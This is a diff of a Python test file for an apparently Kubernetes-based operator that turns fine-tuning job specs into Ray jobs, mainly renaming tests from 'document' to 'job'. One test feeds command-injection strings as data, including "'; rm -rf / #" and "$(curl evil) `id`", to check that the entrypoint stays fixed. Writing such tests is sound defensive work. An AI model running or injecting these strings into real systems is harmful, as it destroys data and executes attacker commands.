@@ -96,7 +96,7 @@ def test_the_head_computes_nothing_and_the_driver_has_its_place_in_the_cpu_group
     assert (gpu["groupName"], gpu["replicas"], gpu["minReplicas"], gpu["maxReplicas"]) == ("gpu", 0, 0, 2)
 
 
-def test_the_entrypoint_holds_nothing_of_the_document():
+def test_the_entrypoint_holds_nothing_of_the_job():
     hostile = rayjob_of(tasks=[task(fields={"from": "'; rm -rf / #"}, templates=["$(curl evil) `id` {input}"])])
     assert hostile["spec"]["entrypoint"] == "python -m raytrain run /etc/raytrain/job.yaml"
     assert "runtimeEnvYAML" not in hostile["spec"]
@@ -162,14 +162,14 @@ def test_only_the_driver_speaks_to_the_api_server_and_only_about_its_own_object(
         assert account["automountServiceAccountToken"] is False
 
 
-def test_the_document_reaches_the_pod_as_it_was_written():
+def test_the_job_reaches_the_pod_as_it_was_written():
     items = made(cluster={"retries": 1})
     (config,) = [item for item in items if item["kind"] == "ConfigMap"]
-    document = YAML(typ="safe").load(config["data"]["job.yaml"])
-    assert document["spec"] == finetunejob(cluster={"retries": 1})["spec"]
-    assert FineTuneJob.model_validate(document).metadata.name == "assistant"
-    mounts = [m for m in pods(items[-1])["cpu"]["spec"]["containers"][0]["volumeMounts"] if m["name"] == "document"]
-    assert mounts == [{"name": "document", "mountPath": "/etc/raytrain", "readOnly": True}]
+    job = YAML(typ="safe").load(config["data"]["job.yaml"])
+    assert job["spec"] == finetunejob(cluster={"retries": 1})["spec"]
+    assert FineTuneJob.model_validate(job).metadata.name == "assistant"
+    mounts = [m for m in pods(items[-1])["cpu"]["spec"]["containers"][0]["volumeMounts"] if m["name"] == "job"]
+    assert mounts == [{"name": "job", "mountPath": "/etc/raytrain", "readOnly": True}]
 
 
 def test_secrets_come_by_reference_only():
@@ -194,7 +194,7 @@ def test_a_pod_that_must_go_has_time_to_say_so():
         assert made_of[name]["spec"]["terminationGracePeriodSeconds"] > drains[name]
 
 
-def test_the_operators_storage_is_only_for_documents_without_one():
+def test_the_operators_storage_is_only_for_jobs_without_one():
     def storage_of(**job):
         env = pods(rayjob_of(**job))["cpu"]["spec"]["containers"][0]["env"]
         return [e["value"] for e in env if e["name"] == "RAYTRAIN_STORAGE"]
@@ -263,15 +263,15 @@ def test_merging_patches_by_name_and_removes_by_null():
     assert base["a"] == {"x": 1, "y": 2}
 
 
-def test_the_document_of_a_run_leaves_out_the_defaults_that_the_api_server_filled_in():
+def test_the_job_of_a_run_leaves_out_the_defaults_that_the_api_server_filled_in():
     written = finetunejob(training={"steps": 10, "device": "cpu"})
     filled = written | {
         "spec": FineTuneJob.model_validate(written | {"metadata": {"name": "sums"}}).model_dump(by_alias=True)["spec"]
     }
-    documents = [
+    config_maps = [
         next(item for item in reconcile(Observed(body), SETTINGS, NOW).apply if item["kind"] == "ConfigMap")["data"]
         for body in (written, filled)
     ]
-    assert documents[0] == documents[1]
-    (text,) = documents[0].values()
+    assert config_maps[0] == config_maps[1]
+    (text,) = config_maps[0].values()
     assert YAML(typ="safe").load(text)["spec"]["training"] == {"steps": 10, "device": "cpu"}
